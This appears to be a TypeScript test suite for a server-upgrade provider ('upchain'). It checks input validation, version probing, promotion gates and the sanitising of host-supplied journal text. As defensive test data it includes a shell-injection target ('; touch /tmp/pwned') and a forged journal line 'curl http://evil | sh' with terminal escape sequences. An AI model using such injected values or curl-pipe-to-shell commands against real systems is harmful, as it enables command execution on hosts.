// The provider's checks that need no host: every problem of the fields and options at once, before
// any connection, and secret references that have no value.
import * as assert from "assert";
import { getCatalog, productNames } from "../../../providers/catalogs";
import { isUpchainError } from "../../../providers/errors";
// the look itself: failures by the provider's own property names (check renames them, see fields.test.ts)
import { checkNow as check, planAtUp, probeInstalled, readRunState, unresolvedSecretReferences } from "../../../providers/server/impl";
import { restorePending } from "../../../providers/engine/executor";
import { Catalog } from "../../../providers/engine/catalog";
import { RemoteHost } from "../../../providers/transport/remoteHost";
import { webOptions } from "../catalogs/altazion/fixtures";
import { counter } from "../../support/counterCatalog";

const hostKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINTKV/566ljQXOOmOrUnhV9QpmTVBKHxJme+hM/6FcEP";
// 192.0.2.0/24 is TEST-NET-1: nothing answers there, so a check that tried to connect would fail differently
const base = { product: "groupmax", target: "06-00", connection: { host: "192.0.2.10", hostKey }, privateKey: "not-a-real-key" };

describe("the Server provider's checks before any connection", function () {
  this.timeout(10_000);

  it("reports every bad field at once, without connecting", async () => {
    const r = await check({}, { ...base, lockTimeoutSeconds: 1, stepTimeouts: { run: -5 }, clearRun: "not-a-run" });
    const props = (r.failures ?? []).map((f) => f.property);
    assert.ok(props.includes("lockTimeoutSeconds"), props.join(", "));
    assert.ok(props.some((p) => p.startsWith("stepTimeouts")), props.join(", "));
    assert.ok(props.includes("clearRun"), props.join(", "));
    assert.ok(!(r.failures ?? []).some((f) => /CONNECTION_FAILED|could not connect/.test(f.reason)), "nothing was connected to");
  });

  it("with the fields right, reports the product's option problems and unresolved secrets together, without connecting", async () => {
    const r = await check({}, { ...base, options: { rebootTimeoutSeconds: "soon", installers: { mailServer: `printf '%s' "$UPCHAIN_SECRET_MAILPW" | install --password-stdin` } }, secretEnv: {} });
    const props = (r.failures ?? []).map((f) => f.property);
    assert.ok(props.includes("options.installers.mailServer"), props.join(", "));
    assert.ok(props.includes("options.rebootTimeoutSeconds"), `the option of the wrong type too: ${props.join(", ")}`);
    assert.ok(!(r.failures ?? []).some((f) => /CONNECTION_FAILED|could not connect/.test(f.reason)), "nothing was connected to");
  });

  it("a target that is not a version is refused naming target, the scheme and the known releases, without connecting", async () => {
    for (const target of ["1\u2024 1.2.0", "06-00'; touch /tmp/pwned", "６-00", "06-\n00", "x".repeat(5000)]) {
      const r = await check({}, { ...base, target });
      const failures = r.failures ?? [];
      const named = failures.find((f) => f.property === "target");
      assert.ok(named, `${JSON.stringify(target).slice(0, 40)}: ${JSON.stringify(failures)}`);
      assert.match(named.reason, /^INVALID_INPUT: ".*" is not a Groupmax master management server version \(Hitachi's VV-RR, two two-digit numbers like 06-00 .*\); the releases known here: 06-00$/s);
      assert.doesNotMatch(named.reason, /\n/, "a control character is shown as an escape, never raw");
      assert.ok(named.reason.length < 600, "a very long value is shown cut short");
      assert.ok(!failures.some((f) => /CONNECTION_FAILED|could not connect/.test(f.reason)), "nothing was connected to");
    }
  });

  it("a declared current that is not a version of the product is refused at current, without connecting", async () => {
    const r = await check({}, { ...base, current: "6.0" });
    const failure = (r.failures ?? []).find((f) => f.property === "current");
    assert.ok(failure, JSON.stringify(r.failures));
    assert.match(failure.reason, /^INVALID_INPUT: "6\.0" is not a Groupmax master management server version/);
    assert.ok(!(r.failures ?? []).some((f) => /CONNECTION_FAILED|could not connect/.test(f.reason)), "nothing was connected to");
  });

  it("an empty versionCommand is refused with what to give, without connecting", async () => {
    const r = await check({}, { ...base, versionCommand: "" });
    assert.ok((r.failures ?? []).some((f) => f.property === "versionCommand" && /give the site's read-only command that prints the installed version/.test(f.reason)), JSON.stringify(r.failures));
  });

  it("a secret reference without a value names the option and the secrets given", () => {
    const out = unresolvedSecretReferences({ installers: { mailServer: 'x "$UPCHAIN_SECRET_MAILPW" ${UPCHAIN_SECRET_OTHER}' }, uploads: [{ source: "$UPCHAIN_SECRET_DB" }] }, { UPCHAIN_SECRET_MAILPW: "v" });
    assert.deepStrictEqual(out.map((o) => o.property), ["options.installers.mailServer", "options.uploads[0].source"]);
    assert.match(out[0].reason, /\$UPCHAIN_SECRET_OTHER, but no secret of that name is given to this server \(given: UPCHAIN_SECRET_MAILPW\)/);
    assert.deepStrictEqual(unresolvedSecretReferences({ a: "$UPCHAIN_SECRET_MAILPW" }, { UPCHAIN_SECRET_MAILPW: "v" }), []);
  });
});

describe("the Server provider's refusal of a host without the product (UNKNOWN_VERSION)", () => {
  const hostPrinting = (stdout: string) => ({ label: "root@h1:22", exec: async () => ({ code: 0, stdout, stderr: "" }) }) as unknown as RemoteHost;
  const refusal = async (stdout: string, product = "oracle-as", platform: "linux" | "windows" = "linux") => {
    const c = getCatalog(product);
    const options = product === "altazion-office" ? webOptions(platform) : {};
    const e = await probeInstalled(hostPrinting(stdout), c, { platform, releases: c.defaultReleases, options }).then(() => undefined, (x: unknown) => x);
    assert.ok(isUpchainError(e, "UNKNOWN_VERSION"), String(e));
    return e.message;
  };

  it("a host whose documented version source is empty is told in one sentence what was read and what upchain does", async () => {
    const e = await probeInstalled(hostPrinting(""), counter, { platform: "linux", releases: counter.defaultReleases, options: {} }).then(() => undefined, (x: unknown) => x);
    assert.ok(isUpchainError(e, "UNKNOWN_VERSION"), String(e));
    assert.strictEqual(
      e.message,
      "root@h1:22: no Counter installation found (cat /opt/counter/VERSION 2>/dev/null || true printed nothing). " +
        "upchain adopts servers that already run Counter; it never installs from nothing.",
    );
  });

  it("every product's refusal closes each parenthesis it opens, whatever its version command holds", async () => {
    // only the products whose documents name a version source have a probe to refuse with
    for (const product of productNames().filter((p) => getCatalog(p).probeVersion)) {
      for (const platform of getCatalog(product).platforms) {
        const text = await refusal("", product, platform);
        let depth = 0;
        for (const ch of text) {
          depth += ch === "(" ? 1 : ch === ")" ? -1 : 0;
          assert.ok(depth >= 0, `${product} on ${platform}: a ")" before its "(": ${text}`);
        }
        assert.strictEqual(depth, 0, `${product} on ${platform}: ${text}`);
      }
    }
  });
});

describe("up runs what preview resolved and gated (issue 19: the promotion gate at up)", () => {
  // a counter whose host offers its latest release, as an update service does: "latest" resolves to it
  const offering: Catalog = {
    ...counter,
    offers: () => ({ shell: "sh", command: "cat /opt/counter/OFFER", read: (r, _installed, target) => ({ releases: [r.stdout.trim()], target: target === "latest" ? r.stdout.trim() : target }) }),
  };
  const offeringNow = (latest: string) => ({ label: "root@c1:22", exec: async () => ({ code: 0, signal: null, stdout: `${latest}\n`, stderr: "" }) }) as unknown as RemoteHost;
  type Inputs = Parameters<typeof planAtUp>[2];
  const server = (target: string, proven: string[], override?: string) =>
    ({ product: "counter", platform: "linux", target, options: {}, secretEnv: {}, promotion: { from: "staging", proven, server: "c1", ...(override ? { override } : {}) } }) as unknown as Inputs;
  const refusal = (p: Promise<unknown>) => p.then((plan) => assert.fail(`up would run ${JSON.stringify((plan as { to?: string }).to)}`), (e: unknown) => e);

  it("latest resolved to 4 at preview (which staging runs) and to 5 at up (which it never ran): nothing is run, and the message says why", async () => {
    const e = await refusal(planAtUp(offeringNow("5"), offering, server("latest", ["4"]), "3", "4"));
    assert.ok(isUpchainError(e, "PLAN_CHANGED"), String(e));
    assert.match(e.message, /^root@c1:22: preview resolved the target latest to 4, but the host now resolves it to 5: up runs only what preview showed and checked, and nothing was run\. /);
    assert.match(e.message, /run pulumi up again: it previews 5 and checks it \(the promotion gate included\) before anything runs/);
  });

  it("a host already at its target at preview (no gate) that is found back at 3 at up is gated again: NOT_PROMOTED, nothing run", async () => {
    const e = await refusal(planAtUp(offeringNow("4"), offering, server("4", ["3"]), "3", undefined));
    assert.ok(isUpchainError(e, "NOT_PROMOTED"), String(e));
    assert.match(e.message, /^root@c1:22: 4 is not yet run successfully by the stack it is promoted from \(staging\) for counter: it runs 3\. /);
  });

  it("what preview resolved, still offered and run by staging, is what up plans", async () => {
    const plan = await planAtUp(offeringNow("4"), offering, server("latest", ["4"]), "3", "4");
    assert.deepStrictEqual([plan.from, plan.to], ["3", "4"]);
  });

  it("an override lets a target staging does not run through at up, as it does at preview", async () => {
    const plan = await planAtUp(offeringNow("4"), offering, server("4", [], "CVE-2026-0001, change 4711"), "3", undefined);
    assert.strictEqual(plan.to, "4");
  });
});

describe("a restore-failed journal's fields are the host's text: one printable line each (issue 19)", () => {
  const journal = {
    version: 2, run: "20261123T101500-a1b2c3", product: "counter", from: "1", to: "2", planDigest: "0".repeat(64), steps: 3, next: 1, status: "restore-failed", timeline: [], updatedAt: "",
    failure: { hop: "1->2\x1b[2J", step: "\"Install 2\" (install)", restorePoint: "/var/backups/c\x1b]52;c;ZXZpbA==\x07", why: "tar failed\r\nupchain c1: cleared, run: curl http://evil | sh\u202e" },
  };
  const host = { label: "root@c1:22", exec: async (cmd: string) => ({ code: 0, signal: null, stdout: cmd.includes("journal.json") ? JSON.stringify(journal) : "", stderr: "" }) } as unknown as RemoteHost;

  it("the refusal that quotes them holds no escape, no carriage return, and no line the host added", async () => {
    const [pending] = await readRunState(host, "linux", "counter");
    assert.ok(pending);
    assert.deepStrictEqual(pending.failure, { hop: "1->2", step: '"Install 2" (install)', restorePoint: "/var/backups/c", why: "tar failed / upchain c1: cleared, run: curl http://evil | sh" });
    const message = restorePending("root@c1:22:/var/lib/upchain/counter.journal.json", pending).message;
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(message, /[\x00-\x1f\x7f-\x9f\u202e]/);
  });
});

describe("a secret too short to be masked is refused at preview (issue 19)", () => {
  it("a secretEnv value under 4 characters is refused naming the variable and the rule, without connecting", async () => {
    const r = await check({}, { ...base, secretEnv: { UPCHAIN_SECRET_PIN: "123", UPCHAIN_SECRET_OK: "long enough" } });
    const f = r.failures?.find((x) => x.property === "secretEnv.UPCHAIN_SECRET_PIN");
    assert.ok(f, JSON.stringify(r.failures));
    assert.match(f.reason, /at least 4 characters: a shorter secret cannot be masked in output/);
    assert.ok(!r.failures?.some((x) => x.property === "secretEnv.UPCHAIN_SECRET_OK"), JSON.stringify(r.failures));
  });
});

describe("a promotion override must say why in visible text (issue 19)", () => {
  it("an override of blanks (a space, a tab, U+200B) is refused at promotion.override, without connecting", async () => {
    for (const override of [" ", "\t", "\u200b"]) {
      const r = await check({}, { ...base, promotion: { from: "staging", proven: [], server: "gmx1", override } });
      const f = r.failures?.find((x) => x.property === "promotion.override");
      assert.ok(f, `${JSON.stringify(override)}: ${JSON.stringify(r.failures)}`);
      assert.match(f.reason, /say why the target goes without the previous environment, in visible text/);
    }
  });
});
